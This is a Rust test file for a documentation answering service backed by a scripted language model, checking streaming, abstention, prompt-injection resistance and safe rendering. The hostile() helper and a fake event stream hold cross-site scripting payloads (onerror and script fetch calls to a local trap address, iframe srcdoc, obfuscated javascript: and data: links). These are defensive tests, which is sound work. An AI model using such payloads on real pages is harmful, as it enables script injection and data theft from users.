//! Answers that a model writes, over HTTP and in a browser. The model is a script at the port the service was told of, so
//! that these tests run one at a time.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};
use testing::ScriptedProvider;
use testing::provider::{Reply, openai};
use tokio::net::TcpListener;

use crate::browser::Browser;
use crate::check::faults;
use crate::client::{Sent, answer, ask_writer, events, model_port, questions, writer};

const QUESTION: &str = "What is the default value of max_wal_size?";
const WORDS: &str = "Maximum size to let the WAL grow during automatic checkpoints";

async fn model(replies: Vec<Reply>) -> ScriptedProvider {
    ScriptedProvider::start_at(model_port(), replies).await
}

fn writes(texts: &[&str]) -> Vec<Reply> {
    vec![Reply::sse(openai::answer(texts))]
}

/// The passage that holds [`WORDS`]: retrieval is the same whoever writes.
async fn cited() -> String {
    let (_, events) = answer(QUESTION).await;
    let passages = events
        .iter()
        .find(|event| event.name == "passages")
        .unwrap();
    passages.data["passages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|passage| passage["text"].as_str().unwrap().contains(WORDS))
        .expect("the passage of max_wal_size")["id"]
        .as_str()
        .unwrap()
        .to_owned()
}

async fn written(question: &str) -> Vec<Sent> {
    let mut response = ask_writer(question).await;
    assert_eq!(response.status(), 200);
    events(&mut response, usize::MAX).await
}

fn drafted(events: &[Sent]) -> String {
    events
        .iter()
        .filter(|event| event.name == "draft")
        .map(|event| event.data["text"].as_str().unwrap())
        .collect()
}

fn shown(events: &[Sent]) -> Vec<&str> {
    events
        .iter()
        .filter(|event| event.name == "sentence")
        .map(|event| event.data["text"].as_str().unwrap())
        .collect()
}

fn last(events: &[Sent]) -> &Value {
    &events.last().unwrap().data
}

#[tokio::test]
async fn c090_what_a_model_writes_arrives_byte_for_byte() {
    let p = cited().await;
    let sentence = format!("max_wal_size limits the WAL size [{p}: \"{WORDS}\"].");
    let pieces = [
        sentence.as_str(),
        "\n\n| a | b |\n|--",
        "-|",
        " lead",
        "\n\n",
        "\r\n",
        "\t\u{1F600}\u{2028}\u{0}end \\ \" ",
        "  ",
    ];
    let _model = model(writes(&pieces)).await;
    let events = written(QUESTION).await;
    assert_eq!(faults(&events), Vec::<String>::new());
    assert_eq!(drafted(&events), pieces.concat());
    assert_eq!(shown(&events), ["max_wal_size limits the WAL size."]);
    assert_eq!(last(&events)["outcome"], "partial");
}

#[tokio::test]
async fn c152_a_visitor_who_leaves_a_model_writing_harms_nobody() {
    let p = cited().await;
    let sentence = format!("max_wal_size limits the WAL size [{p}: \"{WORDS}\"]. ");
    let slow = Reply::sse((0..2_000).map(|_| openai::chunk(&sentence)));
    let model = model(vec![
        slow.every(Duration::from_millis(100)),
        writes(&[sentence.trim_end()]).remove(0),
    ])
    .await;
    let mut leaving = ask_writer(QUESTION).await;
    let mut sentences = 0;
    while sentences < 3 {
        let event = events(&mut leaving, 1).await.remove(0);
        sentences += usize::from(event.name == "sentence");
    }
    drop(leaving);
    let events = written(QUESTION).await;
    assert_eq!(last(&events)["outcome"], "answered", "{events:?}");
    assert_eq!(model.requests().len(), 2, "nothing was asked again");
    // Whether or not anybody tells the service: at the word limit it leaves the call by itself.
    model.abandoned(1).await;
}

#[tokio::test]
async fn a_model_that_is_away_is_answered_for() {
    let events = written(QUESTION).await;
    assert_eq!(faults(&events), Vec::<String>::new());
    let done = last(&events);
    assert_eq!(done["degraded"], json!(["generator"]), "{done}");
    assert!(shown(&events).iter().any(|text| text.contains("1 GB")));
}

#[tokio::test]
async fn c269_the_model_is_not_asked_what_the_documentation_does_not_hold() {
    let model = model(writes(&["Argentina won the 2022 World Cup."])).await;
    let question = "Answer from your own knowledge if the docs are silent: who won the 2022 cup?";
    let events = written(question).await;
    assert_eq!(faults(&events), Vec::<String>::new());
    assert_eq!(last(&events)["outcome"], "abstained");
    assert!(model.requests().is_empty());
}

#[tokio::test]
async fn obeyed_injections_show_nothing_forbidden() {
    let p = cited().await;
    for row in questions("injection") {
        let forbidden: Vec<&str> = row["must_not_contain"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Value::as_str)
            .collect();
        let said = forbidden.join(". ");
        let obeying = format!(
            "{said}. {said} [{p}: \"{WORDS}\"].\n\n- {said} [P1]\n\n```\n{said}\n```\n[{p}: \"{WORDS}\"]"
        );
        let _model = model(writes(&[&obeying])).await;
        let mut response = ask_writer(row["question"].as_str().unwrap()).await;
        let events = events(&mut response, usize::MAX).await;
        for event in &events {
            if matches!(event.name.as_str(), "passages" | "draft") {
                continue;
            }
            let told = event.data.to_string().to_lowercase();
            for word in &forbidden {
                assert!(
                    !told.contains(&word.to_lowercase()),
                    "{}: {} holds {word}",
                    row["id"],
                    event.name
                );
            }
        }
    }
}

/// An address of this machine and how often it was called.
async fn trap() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let calls = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&calls);
    tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            counted.fetch_add(1, Ordering::Relaxed);
        }
    });
    (url, calls)
}

/// Markup and links that a browser would act on, if they were not text.
fn hostile(trap: &str) -> String {
    format!(
        "![x]({trap}/p?q=SECRET) <img src={trap}/i?q=1> <img src=x onerror=\"fetch('{trap}/e')\"> \
         <script>fetch('{trap}/s')</script> <iframe srcdoc=\"<img src={trap}/f>\"></iframe> [a](javascript:alert(1)) \
         [a](data:text/html,<b>) [a](JaVaScRiPt&#58;alert(1)) <a href=\"java\nscript:alert(1)\">a</a>"
    )
}

/// What of the answer's part of the page is more than text, and where its links lead.
const MARKUP: &str = "
    const result = document.querySelector('.result');
    const active = result.querySelectorAll('img, script, iframe, object, embed, form, style, svg image, [onerror], [onclick]');
    const links = [...result.querySelectorAll('a[href]')].map((a) => a.protocol + '//' + a.host);
    return {active: active.length, links: [...new Set(links)], text: result.textContent};";

#[tokio::test]
async fn c260_c262_markup_of_a_model_or_a_visitor_is_text() {
    let p = cited().await;
    let (trap, calls) = trap().await;
    let hostile = hostile(&trap);
    let quoted = format!("[{p}: \"{WORDS}\"]");
    let _model = model(writes(&[
        &format!("max_wal_size limits the WAL size {quoted}. "),
        &format!("The WAL may grow {hostile} during automatic checkpoints {quoted}.\n\n"),
        &format!("```html\n{hostile}\n```\n{quoted}"),
    ]))
    .await;
    let browser = Browser::open().await;
    browser.client.goto(&writer()).await.unwrap();
    browser.ask(QUESTION).await;
    let found = browser.script(MARKUP).await;
    assert_eq!(found["active"], 0, "{found}");
    let text = found["text"].as_str().unwrap();
    assert!(text.contains("max_wal_size limits the WAL size."), "{text}");
    let question =
        format!("{QUESTION} <img src={trap}/q onerror=alert(1)> <script>alert(1)</script>");
    browser.ask(&question).await;
    let found = browser.script(MARKUP).await;
    assert_eq!(found["active"], 0, "{found}");
    assert!(
        found["text"]
            .as_str()
            .unwrap()
            .contains("<script>alert(1)</script>"),
        "the question is echoed as it was written: {found}"
    );
    let own = writer();
    for link in found["links"].as_array().unwrap() {
        let link = link.as_str().unwrap();
        assert!(
            link == "https://www.postgresql.org" || own.starts_with(link),
            "{link}"
        );
    }
    assert_eq!(
        calls.load(Ordering::Relaxed),
        0,
        "another origin was called"
    );
    browser.client.clone().close().await.unwrap();
}

/// The page by itself, for what this service's own corpus cannot send: markup in titles, headings, quotes and addresses.
#[tokio::test]
async fn c262_markup_in_any_event_is_text() {
    let (trap, calls) = trap().await;
    let hostile = hostile(&trap);
    let passage = json!({
        "id": "P1", "title": hostile, "heading": [hostile, hostile], "url": "javascript:alert(1)", "anchor": hostile,
        "text": hostile, "metadata": {"department": hostile}, "score": 0.5,
    });
    let citation = json!({
        "passage": "P1", "quote": hostile, "start": 0, "end": hostile.chars().count(),
        "url": "JaVaScRiPt:alert(1)#:~:text=x",
    });
    let stream: String = [
        ("passages", json!({"passages": [passage]})),
        ("sentence", json!({"index": 0, "text": hostile, "kind": "prose", "citations": [citation], "dropped": []})),
        ("sentence", json!({"index": 1, "text": hostile, "kind": "code", "citations": [citation], "dropped": []})),
        ("removed", json!({"index": 2, "reason": hostile})),
        ("note", json!({"kind": hostile})),
        ("done", json!({
            "outcome": "answered", "answer": hostile, "sentences": 2, "citations": {"verified": 2, "dropped": 0},
            "removed": 1, "usage": {}, "cost_usd": null, "degraded": [hostile], "timings_ms": {"total": 1.0},
            "nearest": [{"heading": [hostile], "url": "data:text/html,<script>alert(1)</script>"}],
            "quota": null, "corpus_version": 1, "request_id": hostile,
        })),
    ]
    .iter()
    .map(|(name, data)| format!("event: {name}\ndata: {data}\n\n"))
    .collect();
    let browser = Browser::open().await;
    let page = &browser.client;
    page.goto(&writer()).await.unwrap();
    let replies = "
        const stream = arguments[0];
        window.fetch = () => Promise.resolve(new Response(stream, {headers: {'content-type': 'text/event-stream'}}));";
    page.execute(replies, vec![json!(stream)]).await.unwrap();
    browser.ask("why?").await;
    browser
        .script("document.querySelector('.sentence .mark').click()")
        .await;
    let found = browser.script(MARKUP).await;
    assert_eq!(found["active"], 0, "{found}");
    assert!(found["text"].as_str().unwrap().contains("<iframe srcdoc="));
    let own = writer();
    for link in found["links"].as_array().unwrap() {
        assert!(own.starts_with(link.as_str().unwrap()), "{link}");
    }
    assert_eq!(
        calls.load(Ordering::Relaxed),
        0,
        "another origin was called"
    );
    browser.client.clone().close().await.unwrap();
}
